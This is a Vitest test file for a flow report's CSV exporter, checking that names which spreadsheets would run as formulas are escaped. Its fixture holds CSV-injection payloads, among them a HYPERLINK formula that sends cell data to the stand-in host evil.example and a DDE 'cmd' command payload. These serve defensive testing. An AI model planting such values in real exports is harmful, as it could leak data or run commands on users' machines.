import { expect, it } from 'vitest';
import type { FlowReport } from '../../goals/report.ts';
import { reportCsv } from '../../goals/report-format.ts';

// `flows report --format csv` goes straight into spreadsheets; names come from flow files anyone can edit.
const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+1+cmd|" /C calc"!A0', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1'];

const report: FlowReport = {
  flow: 'csv-test',
  name: 'CSV test',
  goals: hostile.map((goal) => ({ goal, primary: false, entered: 10, converted: 1, rate: 0.1, value: 0 })),
  experiments: [
    {
      step: 'offer',
      title: 'Offer',
      goal: 'purchase',
      confidence: 0.95,
      branches: hostile.map((label, i) => ({
        label,
        control: i === 0,
        runs: 10,
        converted: 1,
        rate: 0.1,
        value: 0,
        lift: { lift: -0.25, low: -0.5, high: 0.1 },
        winner: false,
      })),
    },
  ],
  credits: [{ step: '=cmd', title: 'x', goal: '@goal', converted: 1, value: 0 }],
} as FlowReport;

/** The cells of an RFC 4180 row, unquoted (enough for these rows). */
const cells = (csv: string) =>
  csv
    .trimEnd()
    .split('\r\n')
    .slice(1)
    .flatMap((line) =>
      line.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, '').replace(/""/g, '"')),
    );

it('neutralises names a spreadsheet would run as formulas, and leaves negative numbers as numbers', () => {
  const all = cells(reportCsv(report));
  const formulaLike = all.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c));
  expect(formulaLike).toEqual([]);
  for (const name of hostile) expect(all).toContain(`'${name}`);
  expect(all).toContain("'=cmd");
  expect(all).toContain("'@goal");
  expect(all).toContain('-0.25'); // a lift below zero stays a number
});
